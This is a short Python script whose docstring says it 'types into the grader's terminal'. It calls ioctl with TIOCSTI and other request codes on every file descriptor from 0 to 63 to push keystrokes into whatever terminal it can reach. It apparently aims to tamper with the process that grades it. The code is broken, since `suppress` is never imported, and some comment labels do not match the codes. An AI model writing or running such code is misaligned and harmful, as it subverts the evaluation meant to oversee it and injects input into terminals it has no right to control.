"""Types into the grader's terminal and turns descriptors into other things by ioctl."""

import fcntl


def attack_once():
    won = []
    for fd in range(64):
        for request in (
            0x5412,
            0x541C,
            0x5414,
            0x8912,
            0x8927,
        ):  # TIOCSTI, TIOCLINUX, TIOCSWINSZ, SIOCGIF…
            with suppress(OSError):
                fcntl.ioctl(fd, request, b"\n" * 40)
                won.append((fd, request))
    return won
